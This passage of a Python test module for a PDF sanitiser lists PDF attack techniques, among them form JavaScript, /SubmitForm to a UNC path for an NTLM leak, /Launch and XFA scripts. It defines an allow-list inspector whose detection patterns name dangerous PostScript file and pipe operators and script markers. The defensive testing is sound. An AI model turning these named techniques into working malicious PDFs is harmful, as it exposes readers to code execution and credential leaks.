"""An outsider's attacks on what the PDF rebuild now keeps (issue 14): fillable forms, the
tagged structure tree, page labels, layers and /Lang.

Written from README.md's PDF row, ISO 32000-1/2 and the public write-ups only (form
JavaScript on /AA /K /F /V /C, /SubmitForm to a UNC path or http for an NTLM leak,
/ImportData, /GoToE, /Launch, XFA scripts, widget /AA, actions hidden in outlines, named
destinations, structure elements, optional-content expressions, fonts of the form's default
resources, appearance streams with PostScript or reference XObjects, /JBIG2Globals,
signatures with /Lock /SV /Reference, /Perms, portfolios, /AF associated files, attribute
objects of a foreign owner, loops in number trees and action chains, field values that are
not values), not from cdr's code. Every hostile file goes through the real CLI in one run
(``cli.py sanitize --json``, as an operator runs it) and every released PDF is judged by the
inspector below, which walks everything reachable from the trailer and accepts only keys it
knows to be harmless for each kind of dictionary, and reads every content stream (pages,
appearances, patterns, Type 3 glyphs, forms) and every default-appearance string against a
list of harmless operators.

Quarantine is an acceptable outcome; a released file the inspector does not accept is a
crossing, and so is a traceback, an operational failure or a file that took over 60 s. A
crossing stays here as a failing case marked ``xfail(strict=True)`` naming what crossed
(``CROSSINGS``). Values the specification does not define but that do not act (a negative
/MaxLen, undefined /Ff bits, choice indices past the options, a page-label prefix of 100 000
characters) are judged by a second test of their own (``ODDITIES``).

Benign controls: forms exported by LibreOffice Writer (text, multi-line text, check box,
option buttons, list and combo boxes, push buttons, with and without tags) must be released,
pass the inspector, and stay fillable through pdfium's form API (a text typed into a field
reads back as that field's value).
"""

from __future__ import annotations

import ctypes
import io
import re
import shutil
import subprocess
import warnings
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_raw
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.attacks import runner

# ============================================================================ the inspector
# Operators of content streams (ISO 32000-1 annex A) that only draw. ``PS`` (PostScript
# pass-through), ``BX``/``EX`` (sections where unknown operators are to be ignored: a hiding
# place) and anything unknown are refused.
CONTENT_OPERATORS = set(
    "w J j M d ri i gs q Q cm m l c v y h re S s f F f* B B* b b* n W W* BT ET Tc Tw Tz TL Tf Tr "
    "Ts Td TD Tm T* Tj TJ ' \" d0 d1 CS cs SC SCN sc scn G g RG rg K k sh Do MP DP BMC BDC EMC".split()
) | {"INLINE IMAGE"}
# a default-appearance string (§12.7.3.3) names a font and a colour, nothing else
DA_OPERATORS = {"Tf", "g", "rg", "k", "G", "RG", "K", "Tc", "Tw", "Tz", "TL", "Ts"}
STREAM_FILTERS = {
    "/FlateDecode", "/DCTDecode", "/JPXDecode", "/CCITTFaxDecode", "/RunLengthDecode", "/ASCIIHexDecode",
    "/ASCII85Decode", "/LZWDecode",
}
INLINE_FILTERS = {"/FlateDecode", "/DCTDecode", "/CCITTFaxDecode", "/RunLengthDecode", "/ASCIIHexDecode",
                  "/ASCII85Decode", "/LZWDecode"}
# a Type 4 function is PostScript limited to arithmetic (§7.10.5)
CALCULATOR = set(
    "abs add atan ceiling cos cvi cvr div exp floor idiv ln log mod mul neg round sin sqrt sub truncate "
    "and bitshift eq false ge gt le lt ne not or true xor if ifelse copy dup exch index pop roll".split()
)
# PostScript that reaches files or runs other programs: never in a font or CMap program
POSTSCRIPT_DANGER = re.compile(
    rb"(?<![A-Za-z/])(run|file|deletefile|renamefile|filenameforall|setpagedevice|setsystemparams|"
    rb"setuserparams|startjob|exitserver|superexec)(?![A-Za-z])|%pipe%|%os%|%ram%"
)
# ISO 32000-1 annex C: 32767 bytes is the longest string a conforming reader must take
STRING_LIMIT = 32767
LINK_SCHEMES = ("http://", "https://", "mailto:")
ATTRIBUTE_OWNERS = {"/Layout", "/List", "/Table", "/PrintField"}
PROCSETS = {"/PDF", "/Text", "/ImageB", "/ImageC", "/ImageI"}
ANNOTATION_TYPES = {
    "/Text", "/Link", "/FreeText", "/Line", "/Square", "/Circle", "/Polygon", "/PolyLine", "/Highlight",
    "/Underline", "/Squiggly", "/StrikeOut", "/Stamp", "/Caret", "/Ink", "/Popup", "/Widget",
}

STREAM = {"Length": "", "Filter": "", "DecodeParms": "decodeparms", "DL": ""}
FIELD = {
    "FT": "", "Parent": "field", "Kids": "fieldkid", "T": "", "TU": "", "TM": "", "Ff": "", "V": "value",
    "DV": "value", "DA": "da", "Q": "", "DS": "richtext", "RV": "richtext", "MaxLen": "", "Opt": "opt",
    "TI": "", "I": "",
}
ANNOTATION = {
    "Type": "", "Subtype": "", "Rect": "", "Contents": "", "P": "pageref", "NM": "", "M": "", "F": "",
    "AP": "ap", "AS": "", "Border": "", "C": "", "StructParent": "", "OC": "oc", "BS": "bs", "BE": "be",
    "CA": "", "T": "", "Popup": "annot", "RC": "richtext", "CreationDate": "", "Subj": "", "IT": "",
    "IRT": "annot", "RT": "", "Open": "", "Name": "", "Q": "", "DA": "da", "DS": "richtext", "RD": "",
    "IC": "", "QuadPoints": "", "InkList": "", "Vertices": "", "L": "", "LE": "", "LL": "", "LLE": "",
    "LLO": "", "Cap": "", "CP": "", "CL": "", "Lang": "",
}
FONT_SIMPLE = {"Type": "", "Subtype": "", "Name": "", "BaseFont": "", "FirstChar": "", "LastChar": "",
               "Widths": "", "FontDescriptor": "fontdescriptor", "Encoding": "encoding", "ToUnicode": "cmap"}
KEYS: dict[str, dict[str, str]] = {
    # a cross-reference stream is the trailer too (§7.5.8): its own keys are data, no object
    "trailer": {"Root": "catalog", "Info": "info", "ID": "", "Size": "", "Type": "", "W": "", "Index": "",
                "Filter": "", "DecodeParms": "decodeparms", "Length": "", "DocChecksum": ""},
    "catalog": {
        "Type": "", "Version": "", "Pages": "pages", "Outlines": "outlines", "AcroForm": "acroform",
        "StructTreeRoot": "structroot", "MarkInfo": "markinfo", "Lang": "", "PageLabels": "labeltree",
        "OCProperties": "ocproperties", "PageMode": "", "PageLayout": "", "ViewerPreferences": "viewer",
        "Names": "names", "Dests": "destmap", "Extensions": "extensions", "OpenAction": "openaction",
    },
    "info": {"Title": "", "Producer": "", "Creator": "", "CreationDate": "", "ModDate": ""},
    "extensions": {},  # every value a developer-extension dictionary
    "extension": {"Type": "", "BaseVersion": "", "ExtensionLevel": ""},
    "markinfo": {"Marked": "", "UserProperties": "", "Suspects": ""},
    "viewer": {k: "" for k in (
        "HideToolbar HideMenubar HideWindowUI FitWindow CenterWindow DisplayDocTitle NonFullScreenPageMode "
        "Direction ViewArea ViewClip PrintArea PrintClip PrintScaling Duplex PickTrayByPDFSize PrintPageRange "
        "NumCopies").split()},
    "names": {"Dests": "desttree"},
    "pages": {"Type": "", "Kids": "pagekid", "Count": "", "Parent": "pages", "Resources": "resources",
              "MediaBox": "", "CropBox": "", "Rotate": ""},
    "page": {
        "Type": "", "Parent": "pages", "Resources": "resources", "MediaBox": "", "CropBox": "", "BleedBox": "",
        "TrimBox": "", "ArtBox": "", "Rotate": "", "Contents": "contents", "Annots": "annot", "StructParents": "",
        "Group": "group", "UserUnit": "", "Tabs": "",
    },
    "resources": {"Font": "fontmap", "XObject": "xobjectmap", "ExtGState": "gsmap", "ColorSpace": "csmap",
                  "Pattern": "patternmap", "Shading": "shadingmap", "ProcSet": "procset", "Properties": "ocmap"},
    "group": {"Type": "", "S": "", "CS": "colorspace", "I": "", "K": ""},
    "form": {**STREAM, "Type": "", "Subtype": "", "FormType": "", "BBox": "", "Matrix": "", "Resources": "resources",
             "Group": "group", "OC": "oc", "StructParent": "", "StructParents": "", "Name": "", "LastModified": ""},
    "image": {**STREAM, "Type": "", "Subtype": "", "Width": "", "Height": "", "ColorSpace": "colorspace",
              "BitsPerComponent": "", "ImageMask": "", "Mask": "image", "Decode": "", "Interpolate": "",
              "SMask": "image", "SMaskInData": "", "Intent": "", "Name": "", "StructParent": "", "OC": "oc",
              "Matte": ""},
    "gs": {k: "" for k in ("Type LW LC LJ ML D RI OP op OPM FL SM SA BM CA ca AIS TK UseBlackPtComp").split()}
    | {"SMask": "smask", "Font": "font", "TR": "function", "TR2": "function", "BG": "function", "BG2": "function",
       "UCR": "function", "UCR2": "function"},
    "smask": {"Type": "", "S": "", "G": "form", "BC": "", "TR": "function"},
    "function": {**STREAM, "FunctionType": "", "Domain": "", "Range": "", "Size": "", "BitsPerSample": "",
                 "Order": "", "Encode": "", "Decode": "", "C0": "", "C1": "", "N": "", "Functions": "function",
                 "Bounds": ""},
    "shading": {**STREAM, "ShadingType": "", "ColorSpace": "colorspace", "Background": "", "BBox": "",
                "AntiAlias": "", "Domain": "", "Coords": "", "Function": "function", "Extend": "", "Matrix": "",
                "BitsPerCoordinate": "", "BitsPerComponent": "", "BitsPerFlag": "", "Decode": "",
                "VerticesPerRow": ""},
    "pattern": {**STREAM, "Type": "", "PatternType": "", "PaintType": "", "TilingType": "", "BBox": "",
                "XStep": "", "YStep": "", "Resources": "resources", "Matrix": "", "Shading": "shading",
                "ExtGState": "gs"},
    "iccstream": {**STREAM, "N": "", "Alternate": "colorspace", "Range": ""},
    "lookup": dict(STREAM),
    "caldict": {"WhitePoint": "", "BlackPoint": "", "Gamma": "", "Matrix": "", "Range": ""},
    "devicenattrs": {"Subtype": "", "Colorants": "csmap", "Process": "process"},
    "process": {"ColorSpace": "colorspace", "Components": ""},
    "decodeparms": {k: "" for k in (
        "Predictor Colors BitsPerComponent Columns EarlyChange K EndOfLine EncodedByteAlign Rows EndOfBlock "
        "BlackIs1 DamagedRowsBeforeError ColorTransform").split()},
    "fontdescriptor": {**{k: "" for k in (
        "Type FontName FontFamily FontStretch FontWeight Flags FontBBox ItalicAngle Ascent Descent Leading "
        "CapHeight XHeight StemV StemH AvgWidth MaxWidth MissingWidth CharSet Lang").split()},
        "FontFile": "fontfile", "FontFile2": "fontfile", "FontFile3": "fontfile", "CIDSet": "lookup",
        "Style": "style"},
    "style": {"Panose": ""},
    "fontfile": {**STREAM, "Length1": "", "Length2": "", "Length3": "", "Subtype": ""},
    "cmap": {**STREAM, "Type": "", "CMapName": "", "CIDSystemInfo": "cidsysinfo", "UseCMap": "cmap", "WMode": ""},
    "cidsysinfo": {"Registry": "", "Ordering": "", "Supplement": ""},
    "encodingdict": {"Type": "", "BaseEncoding": "", "Differences": ""},
    "type0": {"Type": "", "Subtype": "", "BaseFont": "", "Encoding": "encoding", "DescendantFonts": "font",
              "ToUnicode": "cmap"},
    "cidfont": {"Type": "", "Subtype": "", "BaseFont": "", "CIDSystemInfo": "cidsysinfo",
                "FontDescriptor": "fontdescriptor", "DW": "", "W": "", "DW2": "", "W2": "", "CIDToGIDMap": "lookup"},
    "simplefont": FONT_SIMPLE,
    "type3": {**FONT_SIMPLE, "FontBBox": "", "FontMatrix": "", "CharProcs": "charprocs", "Resources": "resources"},
    "acroform": {"Fields": "field", "DA": "da", "DR": "resources", "Q": "", "SigFlags": ""},
    "field": FIELD,
    "widget": {**ANNOTATION, **FIELD, "H": "", "MK": "mk"},
    "link": {**ANNOTATION, "Dest": "dest", "A": "linkaction", "H": "", "PA": "linkaction"},
    "popup": {**ANNOTATION, "Parent": "annot"},
    "markup": {**ANNOTATION},
    "mk": {"R": "", "BC": "", "BG": "", "CA": "", "RC": "", "AC": "", "I": "form", "RI": "form", "IX": "form",
           "IF": "iconfit", "TP": ""},
    "iconfit": {"SW": "", "S": "", "A": "", "FB": ""},
    "bs": {"Type": "", "W": "", "S": "", "D": ""},
    "be": {"S": "", "I": ""},
    "structroot": {"Type": "", "K": "structkid", "IDTree": "idtree", "ParentTree": "parenttree",
                   "ParentTreeNextKey": "", "RoleMap": "rolemap", "ClassMap": "classmap"},
    "structelem": {"Type": "", "S": "", "P": "structparent", "ID": "", "Pg": "pageref", "K": "structkid",
                   "A": "attribute", "C": "", "R": "", "T": "", "Lang": "", "Alt": "", "E": "", "ActualText": ""},
    "mcr": {"Type": "", "Pg": "pageref", "MCID": "", "Stm": "form", "StmOwn": "form"},
    "objr": {"Type": "", "Pg": "pageref", "Obj": "annot"},
    "outlines": {"Type": "", "First": "outline", "Last": "outline", "Count": ""},
    "outline": {"Title": "", "Parent": "outlineparent", "Prev": "outline", "Next": "outline", "First": "outline",
                "Last": "outline", "Count": "", "Dest": "dest", "A": "gotoaction", "C": "", "F": "",
                "SE": "structelem"},
    "pagelabel": {"Type": "", "S": "", "P": "", "St": ""},
    "ocproperties": {"OCGs": "ocg", "D": "occonfig", "Configs": "occonfig"},
    "ocg": {"Type": "", "Name": "", "Intent": ""},
    "ocmd": {"Type": "", "OCGs": "ocg", "P": "", "VE": "ve"},
    "occonfig": {"Name": "", "Creator": "", "BaseState": "", "ON": "ocg", "OFF": "ocg", "Intent": "",
                 "Order": "ocorder", "ListMode": "", "RBGroups": "ocg", "Locked": "ocg"},
    "destdict": {"D": "dest"},
}
# maps whose every value is of one kind
MAPS = {"fontmap": "font", "xobjectmap": "xobject", "gsmap": "gs", "csmap": "colorspace", "patternmap": "pattern",
        "shadingmap": "shading", "ocmap": "oc", "charprocs": "charproc", "destmap": "destvalue",
        "extensions": "extension", "rolemap": "name", "classmap": "attribute", "ap_states": "form"}
TREES = {"labeltree": ("number", "pagelabel"), "parenttree": ("number", "structkid"),
         "idtree": ("name", "structelem"), "desttree": ("name", "destvalue")}


def _key(name: str) -> str:
    return name[1:] if name.startswith("/") else name


def _objgen(obj: Any) -> tuple[int, int] | None:
    try:
        return obj.objgen if obj.is_indirect else None
    except AttributeError:
        return None


def _is_scalar(obj: Any) -> bool:
    return not isinstance(obj, (Array, Dictionary, Stream))


class Inspector:
    """Walks one PDF from its trailer. ``problems``: something not known to be harmless
    (an action, a script, a file, an unknown key or operator). ``oddities``: values the
    specification does not define (choice indices past the options, a negative /MaxLen,
    undefined /Ff bits, a page-label prefix or replacement text of absurd length)."""

    def __init__(self, pdf: pikepdf.Pdf) -> None:
        self.pdf = pdf
        self.problems: list[str] = []
        self.oddities: list[str] = []
        self.seen: set[tuple[Any, str]] = set()
        self.pages = {page.obj.objgen for page in pdf.pages}
        self.steps = 0

    def refuse(self, path: str, what: str) -> None:
        if len(self.problems) < 200:
            self.problems.append(f"{path}: {what}")

    def odd(self, path: str, what: str) -> None:
        if len(self.oddities) < 200:
            self.oddities.append(f"{path}: {what}")

    # ------------------------------------------------------------------ the walk
    def check(self, obj: Any, kind: str, path: str) -> None:
        self.steps += 1
        if self.steps > 200_000:
            if self.steps == 200_001:
                self.refuse(path, "more than 200000 objects reachable")
            return
        if isinstance(obj, Array) and kind == "colorspace":
            self.check_colorspace_array(obj, path)
            return
        if isinstance(obj, Array) and kind in ("dest", "openaction"):
            if len(obj):
                self.check(obj[0], "dest", f"{path}[0]")
            if any(not _is_scalar(item) for item in list(obj)[1:]):
                self.refuse(path, "destination holds an object")
            return
        if isinstance(obj, Array):
            for index, item in enumerate(obj):
                self.check(item, kind, f"{path}[{index}]")
            return
        if _is_scalar(obj):
            self.scalar(obj, kind, path)
            return
        # only indirect objects can close a loop; a direct one is met once (and pikepdf's
        # wrappers of direct objects are fresh, so their id() would be reused)
        objgen = _objgen(obj)
        if objgen is not None:
            if (objgen, kind) in self.seen:
                return
            self.seen.add((objgen, kind))
        handler = getattr(self, f"kind_{kind}", None)
        if handler is not None:
            handler(obj, path)
        elif kind in MAPS:
            for key, value in obj.items():
                self.check(value, MAPS[kind], f"{path}/{_key(key)}")
        elif kind in TREES:
            self.tree(obj, kind, path, 0)
        elif kind in KEYS:
            self.keys(obj, kind, path)
        elif kind == "":
            self.refuse(path, f"a {'stream' if isinstance(obj, Stream) else 'dictionary'} where a plain value belongs")
        else:
            self.refuse(path, f"unknown kind {kind}")

    def keys(self, obj: Dictionary, kind: str, path: str) -> None:
        allowed = KEYS[kind]
        for key, value in obj.items():
            name = _key(key)
            if name not in allowed:
                self.refuse(path, f"{kind} holds /{name}")
                continue
            self.check(value, allowed[name], f"{path}/{name}")
        if isinstance(obj, Stream):
            self.filters(obj, path)

    def filters(self, stream: Stream, path: str) -> None:
        chain = stream.get("/Filter")
        names = [str(f) for f in (chain if isinstance(chain, Array) else [chain] if chain is not None else [])]
        for name in names:
            if name not in STREAM_FILTERS:
                self.refuse(path, f"stream filter {name}")

    def scalar(self, value: Any, kind: str, path: str) -> None:
        if kind == "pageref" and value is not None:
            self.refuse(path, f"page reference is {value!r}")
        elif kind in ("linkaction", "gotoaction", "annot", "field", "fieldkid") and value is not None:
            self.refuse(path, f"{kind} is the value {value!r}")
        elif kind == "procset" and str(value) not in PROCSETS:
            self.refuse(path, f"procedure set {value}")
        elif kind == "da":
            self.default_appearance(value, path)
        elif kind == "richtext" and isinstance(value, String):
            self.rich_text(str(value), path)
        elif kind == "" and isinstance(value, String) and len(bytes(value)) > STRING_LIMIT:
            self.odd(path, f"string of {len(bytes(value))} bytes")

    def tree(self, node: Dictionary, kind: str, path: str, depth: int) -> None:
        flavour, value_kind = TREES[kind]
        if depth > 32:
            self.refuse(path, f"{flavour} tree deeper than 32")
            return
        for key, value in node.items():
            name = _key(key)
            if name == "Kids":
                for index, kid in enumerate(value if isinstance(value, Array) else []):
                    mark = (_objgen(kid), kind)
                    if mark in self.seen:
                        self.refuse(path, f"{flavour} tree /Kids loop")
                        continue
                    if mark[0] is not None:
                        self.seen.add(mark)
                    self.tree(kid, kind, f"{path}/Kids[{index}]", depth + 1) if isinstance(kid, Dictionary) else (
                        self.refuse(path, "tree kid is not a dictionary"))
            elif name == ("Nums" if flavour == "number" else "Names"):
                pairs = list(value) if isinstance(value, Array) else []
                for index in range(1, len(pairs), 2):
                    self.check(pairs[index], value_kind, f"{path}/{name}[{index}]")
            elif name != "Limits":
                self.refuse(path, f"{flavour} tree holds /{name}")

    # ------------------------------------------------------------------ dispatching kinds
    def kind_pagekid(self, obj: Dictionary, path: str) -> None:
        self.check(obj, "page" if obj.get("/Type") == Name.Page else "pages", path)

    def kind_pageref(self, obj: Dictionary, path: str) -> None:
        if _objgen(obj) not in self.pages:
            self.refuse(path, "points at an object that is not one of the pages")

    def kind_contents(self, obj: Stream, path: str) -> None:
        self.keys(obj, "lookup", path)
        # the page's own resources: content operators are judged alone, names need none
        self.content(obj, path)

    def kind_xobject(self, obj: Stream, path: str) -> None:
        subtype = obj.get("/Subtype")
        if subtype == Name.Form:
            self.kind_form(obj, path)
        elif subtype == Name.Image:
            self.kind_image(obj, path)
        else:
            self.refuse(path, f"XObject of subtype {subtype}")

    def kind_form(self, obj: Any, path: str) -> None:
        if not isinstance(obj, Stream):
            self.refuse(path, "a form XObject that is not a stream")
            return
        if obj.get("/Subtype") not in (None, Name.Form):
            self.refuse(path, f"XObject of subtype {obj.get('/Subtype')} where a form belongs")
            return
        self.keys(obj, "form", path)
        self.content(obj, path)

    def kind_image(self, obj: Any, path: str) -> None:
        if not isinstance(obj, Stream) or obj.get("/Subtype") not in (None, Name.Image):
            self.refuse(path, "an image that is not an image stream")
            return
        self.keys(obj, "image", path)

    def kind_charproc(self, obj: Any, path: str) -> None:
        if not isinstance(obj, Stream):
            self.refuse(path, "a glyph that is not a stream")
            return
        self.keys(obj, "lookup", path)
        self.content(obj, path)

    def kind_pattern(self, obj: Dictionary, path: str) -> None:
        self.keys(obj, "pattern", path)
        if isinstance(obj, Stream):
            self.content(obj, path)

    def kind_function(self, obj: Dictionary, path: str) -> None:
        self.keys(obj, "function", path)
        if obj.get("/FunctionType") == 4 and isinstance(obj, Stream):
            for token in re.findall(rb"[^\s{}]+", self.decoded(obj, path)):
                if token.decode("latin-1") not in CALCULATOR and not re.fullmatch(rb"[-+]?[0-9.]+", token):
                    self.refuse(path, f"type 4 function holds {token[:40]!r}")

    def kind_font(self, obj: Dictionary, path: str) -> None:
        subtype = str(obj.get("/Subtype"))
        kind = {"/Type0": "type0", "/CIDFontType0": "cidfont", "/CIDFontType2": "cidfont", "/Type1": "simplefont",
                "/MMType1": "simplefont", "/TrueType": "simplefont", "/Type3": "type3"}.get(subtype)
        if kind is None:
            self.refuse(path, f"font of subtype {subtype}")
            return
        self.keys(obj, kind, path)

    def kind_encoding(self, obj: Dictionary, path: str) -> None:
        self.check(obj, "cmap" if isinstance(obj, Stream) else "encodingdict", path)

    def kind_cmap(self, obj: Any, path: str) -> None:
        if not isinstance(obj, Stream):
            self.refuse(path, "a CMap that is not a stream")
            return
        self.keys(obj, "cmap", path)
        found = POSTSCRIPT_DANGER.search(self.decoded(obj, path))
        if found:
            self.refuse(path, f"CMap program uses {found.group(0)!r}")

    def kind_fontfile(self, obj: Any, path: str) -> None:
        if not isinstance(obj, Stream):
            self.refuse(path, "a font program that is not a stream")
            return
        self.keys(obj, "fontfile", path)
        data = self.decoded(obj, path)
        if path.endswith("/FontFile"):
            clear = data.split(b"eexec", 1)[0]
            if not clear.startswith((b"%!PS-AdobeFont", b"%!FontType1")):
                self.refuse(path, f"Type 1 font program begins {data[:20]!r}")
            found = POSTSCRIPT_DANGER.search(clear)
            if found:
                self.refuse(path, f"Type 1 font program uses {found.group(0)!r}")
        elif path.endswith("/FontFile2") and data[:4] not in (b"\0\1\0\0", b"true"):
            self.refuse(path, f"TrueType font program begins {data[:8]!r}")
        elif path.endswith("/FontFile3") and not (data[:1] == b"\1" or data[:4] in (b"OTTO", b"\0\1\0\0")):
            self.refuse(path, f"CFF/OpenType font program begins {data[:8]!r}")

    def kind_colorspace(self, obj: Any, path: str) -> None:
        if isinstance(obj, Dictionary):  # reached as an element of a colour-space array
            self.refuse(path, "a dictionary where a colour space belongs")

    def check_colorspace_array(self, array: Array, path: str) -> None:
        family = str(array[0]) if len(array) else ""
        slots = {"/ICCBased": {1: "iccstream"}, "/Indexed": {1: "colorspace", 3: "lookup"},
                 "/Separation": {2: "colorspace", 3: "function"},
                 "/DeviceN": {2: "colorspace", 3: "function", 4: "devicenattrs"}, "/Pattern": {1: "colorspace"},
                 "/CalRGB": {1: "caldict"}, "/CalGray": {1: "caldict"}, "/Lab": {1: "caldict"}}.get(family)
        if slots is None:
            self.refuse(path, f"colour space {family or array!r}")
            return
        for index, item in enumerate(array):
            if index in slots:
                self.check(item, slots[index], f"{path}[{index}]")
            elif not _is_scalar(item) and not (family == "/DeviceN" and index == 1):
                self.refuse(path, f"colour space {family} holds an object at {index}")

    def kind_ap(self, obj: Dictionary, path: str) -> None:
        for key, value in obj.items():
            if key not in ("/N", "/D", "/R"):
                self.refuse(path, f"appearance dictionary holds {key}")
            elif isinstance(value, Stream):
                self.kind_form(value, f"{path}/{_key(key)}")
            else:
                self.check(value, "ap_states", f"{path}/{_key(key)}")

    def kind_annot(self, obj: Dictionary, path: str) -> None:
        subtype = str(obj.get("/Subtype"))
        if subtype not in ANNOTATION_TYPES:
            self.refuse(path, f"annotation of subtype {subtype}")
            return
        kind = {"/Widget": "widget", "/Link": "link", "/Popup": "popup"}.get(subtype, "markup")
        self.keys(obj, kind, path)
        if kind == "widget":
            self.field_values(obj, path)

    def kind_fieldkid(self, obj: Dictionary, path: str) -> None:
        self.check(obj, "annot" if "/Subtype" in obj else "field", path)

    def kind_field(self, obj: Dictionary, path: str) -> None:
        if "/Subtype" in obj:
            self.kind_annot(obj, path)
            return
        self.keys(obj, "field", path)
        self.field_values(obj, path)

    def field_values(self, field: Dictionary, path: str) -> None:
        """Oddities: values outside what §12.7.4 defines for them."""
        flags = field.get("/Ff")
        if flags is not None and (not isinstance(flags, int) or flags < 0 or flags >= 1 << 27):
            self.odd(path, f"/Ff {flags} sets bits the specification does not define")
        quadding = field.get("/Q")
        if quadding is not None and quadding not in (0, 1, 2):
            self.odd(path, f"/Q {quadding}")
        length = field.get("/MaxLen")
        if length is not None and (not isinstance(length, int) or length < 0):
            self.odd(path, f"/MaxLen {length}")
        options = field.get("/Opt")
        count = len(options) if isinstance(options, Array) else 0
        for index in field.get("/I", []) if isinstance(field.get("/I"), Array) else []:
            if not isinstance(index, int) or not 0 <= index < count:
                self.odd(path, f"/I index {index} for {count} options")
        if isinstance(options, Array):
            for index, option in enumerate(options):
                plain = isinstance(option, String) or (
                    isinstance(option, Array) and len(option) == 2 and all(isinstance(o, String) for o in option))
                if not plain:
                    self.refuse(path, f"/Opt[{index}] is neither a text nor a pair of texts")

    def kind_opt(self, obj: Any, path: str) -> None:
        self.refuse(path, "a dictionary among the options")

    def kind_value(self, obj: Any, path: str) -> None:
        if isinstance(obj, Stream):
            self.keys(obj, "lookup", path)  # a text stream (§12.7.4.3) with nothing else
        else:
            self.refuse(path, "a field value that is a dictionary")

    def kind_decodeparms(self, obj: Dictionary, path: str) -> None:
        self.keys(obj, "decodeparms", path)

    def kind_dest(self, obj: Any, path: str) -> None:
        # reached for the first element of an explicit destination: a page
        self.kind_pageref(obj, path)

    def kind_openaction(self, obj: Dictionary, path: str) -> None:
        self.action(obj, path, uri=False)

    def kind_destvalue(self, obj: Dictionary, path: str) -> None:
        self.keys(obj, "destdict", path)

    def kind_gotoaction(self, obj: Dictionary, path: str) -> None:
        self.action(obj, path, uri=False)

    def kind_linkaction(self, obj: Dictionary, path: str) -> None:
        self.action(obj, path, uri=True)

    def action(self, obj: Dictionary, path: str, uri: bool) -> None:
        kind = obj.get("/S")
        allowed = {"/Type", "/S", "/D"} if kind == Name.GoTo else {"/Type", "/S", "/URI", "/IsMap"}
        if kind == Name.URI and uri:
            target = obj.get("/URI")
            text = bytes(target).decode("latin-1") if isinstance(target, String) else ""
            folded = re.sub(r"[\x00-\x20\x7f]", "", text).lower()
            if not folded.startswith(LINK_SCHEMES) or text != text.strip() or "attach=" in folded:
                self.refuse(path, f"link to {text[:80]!r}")
            if re.search(r"[\x00-\x1f\x7f]", text):
                self.refuse(path, f"link with control characters {text[:80]!r}")
        elif kind != Name.GoTo:
            self.refuse(path, f"action /S {kind}")
            return
        for key, value in obj.items():
            if key not in allowed:
                self.refuse(path, f"action holds {key}")
            elif key == "/D":
                self.check(value, "dest", f"{path}/D")

    def kind_structkid(self, obj: Dictionary, path: str) -> None:
        kind = {Name.MCR: "mcr", Name.OBJR: "objr"}.get(obj.get("/Type"), "structelem")
        self.check(obj, kind, path) if kind != "structelem" else self.kind_structelem(obj, path)

    def kind_structelem(self, obj: Dictionary, path: str) -> None:
        if obj.get("/Type") not in (None, Name.StructElem):
            self.refuse(path, f"structure element of type {obj.get('/Type')}")
            return
        self.keys(obj, "structelem", path)

    def kind_structparent(self, obj: Dictionary, path: str) -> None:
        if obj.get("/Type") == Name.StructTreeRoot:
            self.check(obj, "structroot", path)
        else:
            self.kind_structelem(obj, path)

    def kind_outlineparent(self, obj: Dictionary, path: str) -> None:
        self.check(obj, "outlines" if obj.get("/Type") == Name.Outlines or "/Title" not in obj else "outline", path)

    def kind_attribute(self, obj: Dictionary, path: str) -> None:
        if isinstance(obj, Stream):
            self.refuse(path, "an attribute object that is a stream")
            return
        owner = str(obj.get("/O"))
        if owner not in ATTRIBUTE_OWNERS:
            self.refuse(path, f"attribute object of owner {owner}")
        for key, value in obj.items():
            self.flat(value, f"{path}/{_key(key)}")

    def flat(self, value: Any, path: str) -> None:
        """Attribute values are names, numbers, texts and arrays of them."""
        if isinstance(value, Array):
            for index, item in enumerate(value):
                self.flat(item, f"{path}[{index}]")
        elif not _is_scalar(value):
            self.refuse(path, "an attribute value that is a dictionary")

    def kind_name(self, obj: Any, path: str) -> None:
        self.refuse(path, "a dictionary where a name belongs")

    def kind_oc(self, obj: Dictionary, path: str) -> None:
        kind = {Name.OCG: "ocg", Name.OCMD: "ocmd"}.get(obj.get("/Type"))
        if kind is None:
            self.refuse(path, f"optional content of type {obj.get('/Type')}")
        else:
            self.keys(obj, kind, path)

    def kind_ve(self, obj: Dictionary, path: str) -> None:
        self.check(obj, "ocg", path) if obj.get("/Type") == Name.OCG else self.refuse(path, "visibility expression holds a non-layer")

    def kind_ocorder(self, obj: Dictionary, path: str) -> None:
        self.kind_ve(obj, path)

    def kind_procset(self, obj: Any, path: str) -> None:
        self.refuse(path, "procedure set is an object")

    def kind_richtext(self, obj: Any, path: str) -> None:
        if isinstance(obj, Stream):
            self.keys(obj, "lookup", path)
            self.rich_text(self.decoded(obj, path).decode("latin-1"), path)
        else:
            self.refuse(path, "rich text that is a dictionary")

    def kind_da(self, obj: Any, path: str) -> None:
        self.refuse(path, "default appearance that is not a string")

    # ------------------------------------------------------------------ strings and streams
    def rich_text(self, text: str, path: str) -> None:
        lowered = text.lower()
        for marker in ("<script", "javascript:", "href", "src=", "url(", "<object", "<embed", "@import"):
            if marker in lowered:
                self.refuse(path, f"rich text holds {marker!r}")

    def default_appearance(self, value: Any, path: str) -> None:
        if not isinstance(value, String):
            self.refuse(path, f"default appearance {value!r}")
            return
        text = bytes(value).decode("latin-1")
        for token in re.findall(r"/[^\s/\[\]()<>]*|[-+]?\d*\.?\d+|[()<>\[\]{}]|[^\s/\[\]()<>{}]+", text):
            if token.startswith("/") or re.fullmatch(r"[-+]?\d*\.?\d+", token):
                continue
            if token not in DA_OPERATORS:
                self.refuse(path, f"default appearance holds {token[:40]!r}")

    def decoded(self, stream: Stream, path: str) -> bytes:
        try:
            return stream.read_bytes()
        except Exception as error:  # noqa: BLE001 - any decoding failure is a finding
            self.refuse(path, f"stream does not decode: {type(error).__name__}")
            return b""

    def content(self, stream: Stream, path: str) -> None:
        try:
            instructions = pikepdf.parse_content_stream(stream)
        except Exception as error:  # noqa: BLE001
            self.refuse(path, f"content stream does not parse: {type(error).__name__}: {error}")
            return
        for instruction in instructions:
            operator = str(instruction.operator)
            if operator not in CONTENT_OPERATORS:
                self.refuse(path, f"content operator {operator[:40]!r}")
            elif operator == "INLINE IMAGE":
                try:
                    image = instruction.iimage
                except pikepdf.PdfError as error:
                    self.refuse(path, f"inline image that does not parse: {str(error)[:120]}")
                    continue
                self.inline_image(image, path)
            elif operator in ("BDC", "DP"):
                for operand in instruction.operands:
                    if isinstance(operand, Dictionary):
